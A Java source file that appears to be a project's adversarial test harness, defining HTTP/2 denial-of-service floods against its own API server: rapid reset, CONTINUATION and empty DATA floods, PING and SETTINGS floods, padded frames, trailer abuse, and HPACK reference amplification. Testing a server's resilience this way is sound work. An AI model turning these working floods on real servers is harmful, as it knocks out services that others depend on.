package io.imagegate.cli.attack;

import static io.imagegate.server.Http2Frames.CONTINUATION;
import static io.imagegate.server.Http2Frames.DATA;
import static io.imagegate.server.Http2Frames.END_HEADERS;
import static io.imagegate.server.Http2Frames.END_STREAM;
import static io.imagegate.server.Http2Frames.HEADERS;
import static io.imagegate.server.Http2Frames.PING;
import static io.imagegate.server.Http2Frames.SETTINGS;
import static java.nio.charset.StandardCharsets.US_ASCII;

import io.imagegate.server.Http2Frames;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;

/** Frames of HTTP/2 that cost their sender little. */
final class Http2Attacks {

    private static final int PRIORITY = 2;
    private static final int PADDED = 8;
    private static final int MOST_PADDING = 255;
    private static final int WINDOW_UPDATE = 8;
    private static final byte[] LARGEST_INCREMENT = {0x7f, (byte) 0xff, 0, 0};
    private static final int UNKNOWN = 0x42;
    private static final int ITEMS = 1_000;
    private static final int MOST_STREAMS = 110_000;
    private static final int BATCH = 50;
    private static final byte[] HEAD = Http2Frames.head("/image_policy");

    private Http2Attacks() {}

    static Map<String, Attack> all() {
        Map<String, Attack> all = new LinkedHashMap<>();
        all.put("110,000 HEADERS, wrong name", Http2Attacks::headersOfStranger);
        all.put("empty CONTINUATION", Http2Attacks::emptyContinuation);
        all.put("empty DATA", Http2Attacks::emptyData);
        all.put(
                "WINDOW_UPDATE",
                a -> control(a, Http2Frames.frame(WINDOW_UPDATE, 0, 0, (byte) 0, (byte) 0, (byte) 0, (byte) 1)));
        all.put("PING", a -> control(a, Http2Frames.frame(PING, 0, 0, new byte[8])));
        all.put("PING, answers unread", Http2Attacks::unreadPings);
        all.put("SETTINGS", a -> control(a, Http2Frames.frame(SETTINGS, 0, 0)));
        all.put("PRIORITY", a -> control(a, Http2Frames.frame(PRIORITY, 0, 3, new byte[5])));
        all.put("frames of an unknown type", a -> control(a, Http2Frames.frame(UNKNOWN, 0, 0)));
        all.put("DATA of one byte and 255 of padding", a -> padded(a, 1));
        all.put("DATA of 256 bytes and 255 of padding", a -> padded(a, 256));
        all.put("requests with trailers", Http2Attacks::trailers);
        all.put("rapid reset", Http2Attacks::rapidReset);
        all.put("large fields by reference", Http2Attacks::references);
        return all;
    }

    private static void headersOfStranger(Adversary adversary) throws IOException, InterruptedException {
        Http2Frames connection = adversary.http2(adversary.stranger());
        for (int stream = 1; stream < 2 * MOST_STREAMS; stream += 2 * BATCH) {
            ByteArrayOutputStream batch = new ByteArrayOutputStream();
            for (int i = 0; i < BATCH; i++) {
                batch.writeBytes(Http2Frames.frame(HEADERS, END_HEADERS, stream + 2 * i, HEAD));
            }
            connection.write(batch.toByteArray());
            adversary.sent(batch.size(), BATCH);
        }
        while (!adversary.isOver()) {
            adversary.pause(1_000);
            connection.ping();
        }
    }

    private static void emptyContinuation(Adversary adversary) throws IOException {
        Http2Frames connection = adversary.http2(adversary.apiserver());
        connection.write(Http2Frames.frame(HEADERS, 0, 1, HEAD));
        flood(adversary, connection, Http2Frames.frame(CONTINUATION, 0, 1));
    }

    private static void emptyData(Adversary adversary) throws IOException {
        Http2Frames connection = adversary.http2(adversary.apiserver());
        connection.write(Http2Frames.frame(HEADERS, END_HEADERS, 1, HEAD));
        flood(adversary, connection, Http2Frames.frame(DATA, 0, 1));
    }

    private static void padded(Adversary adversary, int content) throws IOException {
        Http2Frames connection = adversary.http2(adversary.apiserver());
        connection.write(Http2Frames.frame(HEADERS, END_HEADERS, 1, HEAD));
        byte[] payload = new byte[1 + content + MOST_PADDING];
        payload[0] = (byte) MOST_PADDING;
        Arrays.fill(payload, 1, 1 + content, (byte) ' ');
        flood(adversary, connection, Http2Frames.frame(DATA, PADDED, 1, payload));
    }

    private static void trailers(Adversary adversary) throws IOException {
        Http2Frames connection = adversary.http2(adversary.apiserver());
        connection.write(Http2Frames.frame(WINDOW_UPDATE, 0, 0, LARGEST_INCREMENT));
        byte[] trailer = {0, 1, 'x', 1, 'y'};
        for (int stream = 1; stream > 0; stream += 2 * BATCH) {
            ByteArrayOutputStream batch = new ByteArrayOutputStream();
            for (int i = 0; i < 2 * BATCH; i += 2) {
                batch.writeBytes(Http2Frames.frame(HEADERS, END_HEADERS, stream + i, HEAD));
                batch.writeBytes(Http2Frames.frame(DATA, 0, stream + i, Review.ALLOWED.body()));
                batch.writeBytes(Http2Frames.frame(HEADERS, END_HEADERS | END_STREAM, stream + i, trailer));
            }
            connection.write(batch.toByteArray());
            adversary.sent(batch.size(), BATCH);
        }
    }

    /** Frames on a connection that made a request, and therefore is not closed for making none. */
    private static void control(Adversary adversary, byte[] frame) throws IOException {
        Http2Frames connection = adversary.http2(adversary.apiserver());
        ask(connection);
        flood(adversary, connection, frame);
    }

    private static void unreadPings(Adversary adversary) throws IOException {
        Http2Frames connection = new Http2Frames(adversary.apiserver());
        ask(connection);
        flood(adversary, connection, Http2Frames.frame(PING, 0, 0, new byte[8]));
    }

    private static void ask(Http2Frames connection) throws IOException {
        connection.write(Http2Frames.frame(HEADERS, END_HEADERS, 1, HEAD));
        connection.write(Http2Frames.frame(DATA, END_STREAM, 1, Review.ALLOWED.body()));
    }

    private static void flood(Adversary adversary, Http2Frames connection, byte[] frame) throws IOException {
        ByteArrayOutputStream frames = new ByteArrayOutputStream();
        for (int i = 0; i < ITEMS; i++) {
            frames.writeBytes(frame);
        }
        while (true) {
            connection.write(frames.toByteArray());
            adversary.sent(frames.size(), ITEMS);
        }
    }

    /** A field of 3 KiB is named once, and then a thousand times in every head by one byte. */
    private static void references(Adversary adversary) throws IOException {
        Http2Frames connection = adversary.http2(adversary.apiserver());
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        head.writeBytes(HEAD);
        // Literal with indexing and a new name: lengths of 7 bits, of which 127 means that more follow.
        head.writeBytes(new byte[] {0x40, 1, 'x', 0x7f, (byte) 0x80, 24});
        head.writeBytes("y".repeat(127 + (24 << 7)).getBytes(US_ASCII));
        byte[] reference = {(byte) 0xbe};
        for (int i = 0; i < ITEMS; i++) {
            head.writeBytes(reference);
        }
        for (int stream = 1; stream > 0; stream += 2) {
            connection.write(Http2Frames.frame(HEADERS, END_HEADERS | END_STREAM, stream, head.toByteArray()));
            adversary.sent(head.size(), 1);
        }
    }

    private static void rapidReset(Adversary adversary) throws IOException {
        Http2Frames connection = adversary.http2(adversary.apiserver());
        for (int stream = 1; stream > 0; stream += 2) {
            connection.write(Http2Frames.frame(HEADERS, END_HEADERS, stream, HEAD));
            connection.reset(stream);
            adversary.sent(HEAD.length, 1);
        }
    }
}
